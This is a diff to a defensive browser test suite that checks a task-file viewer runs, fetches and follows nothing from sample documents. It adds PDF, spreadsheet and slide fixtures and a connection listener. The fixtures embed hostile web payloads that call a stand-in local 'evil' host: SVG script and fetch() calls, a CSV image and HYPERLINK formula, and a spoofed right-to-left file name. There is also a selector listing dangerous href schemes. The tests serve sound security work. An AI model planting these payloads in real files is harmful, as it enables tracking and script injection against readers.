@@ -4,7 +4,7 @@ import { createServer } from 'node:http'
 import { after, before, test } from 'node:test'
 import { Browser } from './browser.mjs'
 import { calls, Machine, says } from './machine.mjs'
-import { docx } from './samples.mjs'
+import { docx, pdf, pptx, xlsx } from './samples.mjs'
 
 let browser
 let machine
@@ -54,6 +54,8 @@ before(async () => {
     answer.setHeader('access-control-allow-origin', '*')
     answer.end(page ?? '')
   })
+  // A connection that asks for nothing (`preconnect`) tells somebody that the file was read, too.
+  listener.on('connection', () => { if (Object.keys(pages).length === 0) heard.push('a connection') })
   await new Promise((go) => listener.listen(0, '127.0.0.1', go))
   evil = `http://127.0.0.1:${listener.address().port}`
   browser = await Browser.start()
@@ -62,6 +64,9 @@ before(async () => {
     'page.html': `<!doctype html><body>${attack(evil)}`,
     'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50" onload="alert(10)"><?xml-stylesheet href="${evil}/x.css"?><style>@import url(${evil}/svg.css);</style><script href="${evil}/svg.js"/><script>fetch('${evil}/svg')</script><image href="${evil}/in.png" xlink:href="${evil}/in2.png" width="9" height="9"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/in-frame"/></foreignObject></svg>`,
     'letter.docx': docx(['Dear reader', 'of a letter'], evil),
+    'paper.pdf': pdf('Words of a paper', evil),
+    'sheet.xlsx': xlsx([['name', 'link'], [attack(evil).slice(0, 900), 'far']], evil),
+    'talk.pptx': pptx('A slide of others', attack(evil).slice(0, 900), evil),
     'notes.ipynb': JSON.stringify({ cells: [{ cell_type: 'markdown', metadata: {}, source: [markdown(evil)] }, { cell_type: 'code', metadata: {}, source: [''], outputs: [{ output_type: 'display_data', data: { 'text/html': [attack(evil)], 'text/plain': ['plain'] }, metadata: {} }] }], metadata: {}, nbformat: 4, nbformat_minor: 5 }),
     'table.csv': `name,link\n"<img src=${evil}/csv.png>","=HYPERLINK(""${evil}/x"")"\n`,
     'invoice\u202Efdp.exe.txt': 'bidi\u202Eabc\u2066 words\n',
@@ -113,12 +118,20 @@ test('nothing that a model or a file says is run, fetched or followed', async ()
   const live = await page.getByRole('log').evaluate((log) => [...log.querySelectorAll('script, iframe, object, embed, form, meta, link, base, style, img[src^=http], video, audio, [onerror], [onload], [href^="javascript:" i], [href^="data:" i], [href^="vbscript:" i]')].map(({ outerHTML }) => outerHTML))
   assert.deepEqual(live, [])
 
-  for (const name of ['words.md', 'page.html', 'drawing.svg', 'letter.docx', 'notes.ipynb', 'table.csv', 'huge.md', 'long.txt']) {
+  for (const name of ['words.md', 'page.html', 'drawing.svg', 'letter.docx', 'paper.pdf', 'sheet.xlsx', 'talk.pptx', 'notes.ipynb', 'table.csv', 'huge.md', 'long.txt']) {
     await rail(page).getByRole('button', { name: `Show ${name}` }).click()
     const view = page.getByRole('complementary', { name: 'Files of this task' })
     await view.getByRole('heading', { level: 2, name }).waitFor()
     await view.getByRole('link', { name: 'Download a copy' }).first().waitFor()
     if (name === 'letter.docx') await view.frameLocator('iframe').getByText('of a letter').waitFor()
+    if (name === 'paper.pdf') {
+      await view.getByText('Words of a paper').waitFor()
+      // Where a link lies, nothing happens, and no script ran that would have said so.
+      await view.getByText('Words of a paper').click()
+      assert.equal(await view.locator('a[href^=http], a[href^="javascript:" i]').count(), 0)
+    }
+    if (name === 'sheet.xlsx') await view.getByRole('gridcell', { name: 'far' }).click()
+    if (name === 'talk.pptx') await view.getByRole('heading', { name: 'A slide of others' }).waitFor()
     if (name === 'long.txt') await view.getByText('Only the beginning is shown here.', { exact: false }).waitFor()
     await page.waitForTimeout(name === 'page.html' ? 800 : 300)
     await calm(page, home)
